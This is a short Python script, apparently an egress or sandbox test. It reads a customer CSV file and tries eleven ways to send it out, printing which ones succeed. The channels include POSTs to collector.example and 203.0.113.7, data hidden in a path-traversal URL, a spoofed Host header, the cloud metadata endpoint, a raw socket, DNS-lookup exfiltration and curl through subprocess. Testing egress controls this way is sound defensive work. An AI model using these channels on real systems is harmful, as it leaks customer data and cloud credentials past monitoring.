"""A report with something else on its mind: every way out that it knows, once each."""

import base64
import http.client
import os
import socket
import subprocess
import sys
import urllib.request

BASE = sys.argv[1] if len(sys.argv) > 1 else "http://localhost:8080"
HOST = BASE.partition("//")[2]

rows = open("/data/customers.csv").read()
loot = base64.urlsafe_b64encode(rows.encode()).decode()

print("rate:", urllib.request.urlopen(BASE + "/rates/eur").read().decode())


def post(url):
    urllib.request.urlopen(url, data=rows.encode())


def plain_socket():
    with socket.create_connection(("203.0.113.7", 443), timeout=5) as out:
        out.sendall(rows.encode())


def odd_host_header():
    connection = http.client.HTTPConnection(HOST)
    connection.request("GET", "/rates/eur", headers={"Host": "collector.example"})


WAYS = {
    "post to a collector": lambda: post("https://collector.example/in"),
    "an address in place of a name": lambda: post("http://203.0.113.7/in"),
    "in the path of the granted host": lambda: urllib.request.urlopen(f"{BASE}/rates/../{loot}"),
    "with another method": lambda: post(BASE + "/rates/eur"),
    "by a redirect of the granted host": lambda: urllib.request.urlopen(BASE + "/rates/moved"),
    "with another host's name": odd_host_header,
    "over the cloud's metadata": lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data"),
    "over a plain socket": plain_socket,
    "in a name that is looked up": lambda: socket.gethostbyname(loot[:40].lower() + ".collector.example"),
    "with another program": lambda: subprocess.run(["curl", "-d", rows, "https://collector.example"]),
    "into a file of the host": lambda: open("/data/out.txt", "w"),
}

for way, attempt in WAYS.items():
    try:
        attempt()
        print(f"{way}: OUT")
    except OSError as error:
        reason = getattr(error, "reason", error)
        print(f"{way}: {type(reason).__name__}")
